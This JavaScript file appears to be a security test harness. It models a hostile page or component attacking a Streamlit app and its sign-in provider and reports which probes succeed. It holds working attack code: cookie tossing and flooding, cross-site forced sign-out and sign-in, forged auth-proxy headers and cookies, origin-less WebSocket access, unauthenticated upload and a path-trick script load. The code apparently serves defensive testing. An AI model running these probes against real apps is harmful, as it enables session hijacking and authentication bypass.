// What a hostile page or component of an app tries against the app at {app} and its provider at {issuer}.
// It gives what came of each part that can tell: "got …" or "refused".
async function attack({app, issuer, cookies, parts}) {
  const out = {};
  const late = ms => new Promise(done => setTimeout(() => done("refused"), ms));
  const tried = async (name, what) => {
    out[name] = await Promise.race([what().then(got => "got " + got, () => "refused"), late(5000)]);
  };
  const shown = (tag, src) => new Promise((done, failed) => {
    const e = document.createElement(tag);
    e.onload = () => done(tag);
    e.onerror = failed;
    e.src = src;
    document.body.append(e);
  });
  const stream = () => new Promise((done, failed) => {
    const socket = new WebSocket(app.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    socket.binaryType = "arraybuffer";
    socket.onopen = () => socket.send(new Uint8Array([0x5a, 0]));
    socket.onmessage = m => { done(m.data.byteLength + " bytes"); socket.close(); };
    socket.onerror = socket.onclose = failed;
  });
  const paths = ["/", "/authorize", "/signin", "/signout", "/end_session", "/device", "/_stcore", "/_stcore/stream"];
  const form = {method: "POST", credentials: "include", headers: {"Content-Type": "application/x-www-form-urlencoded"}};
  const does = {
    async cookies() {
      for (const name of cookies)
        for (const path of paths)
          for (const more of ["", "; domain=localhost", "; SameSite=None; Secure"]) document.cookie = `${name}=junk; path=${path}${more}`;
    },
    async flood() { // more than any browser keeps of a host
      for (let i = 0; i < 400; i++) document.cookie = `filler${i}=${"x".repeat(100)}; path=/`;
    },
    async signout() {
      const query = "?client_id=streamlit";
      for (const address of [issuer + "/end_session", issuer + "/end_session" + query, issuer + "/signout", app + "/auth/logout"]) {
        for (const tag of ["img", "iframe", "script"]) await Promise.race([shown(tag, address).catch(() => {}), late(1000)]);
        await fetch(address, {mode: "no-cors", credentials: "include"}).catch(() => {});
      }
      await fetch(issuer + "/signout", {...form, mode: "no-cors", body: "request="}).catch(() => {});
      await tried("sign out by script", () => fetch(issuer + "/signout", {...form, body: "request="}).then(r => r.text()));
      await tried("sign in by script", () => fetch(issuer + "/signin", {...form, body: "pick=dora@example.com"}).then(r => r.text()));
    },
    async read() {
      await tried("read the provider", () => fetch(issuer + "/", {credentials: "include"}).then(r => r.text()));
    },
    async forge() {
      document.cookie = "CF_Authorization=forged; path=/";
      const headers = {"X-Amzn-Oidc-Data": "forged", "X-Goog-Authenticated-User-Email": "forged", "X-Forwarded-User": "forged"};
      await fetch(app + "/_stcore/health", {headers}).catch(() => {});
    },
    async app() {
      await tried("stream", stream);
      await tried("stream without an origin", () => new Promise((done, failed) => {
        const frame = document.createElement("iframe");
        frame.sandbox = "allow-scripts";
        frame.srcdoc = `<script>const app = ${JSON.stringify(app)}; (${stream})().then(got => parent.postMessage(got, "*"), () => parent.postMessage("no", "*"))</` + "script>";
        addEventListener("message", m => m.data === "no" ? failed() : done(m.data), {once: true});
        document.body.append(frame);
      }));
      await tried("read the app", () => fetch(app + "/_stcore/host-config", {credentials: "include"}).then(r => r.text()));
      await tried("upload", () => fetch(app + "/_stcore/upload_file/a/b", {method: "PUT", body: "x"}).then(r => r.status));
      await tried("run a file of the app", () => shown("script", app + "/component/__main__.evil/attack.js"));
      await Promise.race([shown("iframe", app + "/"), late(2000)]);
    },
  };
  for (const part of parts) await does[part]();
  return out;
}
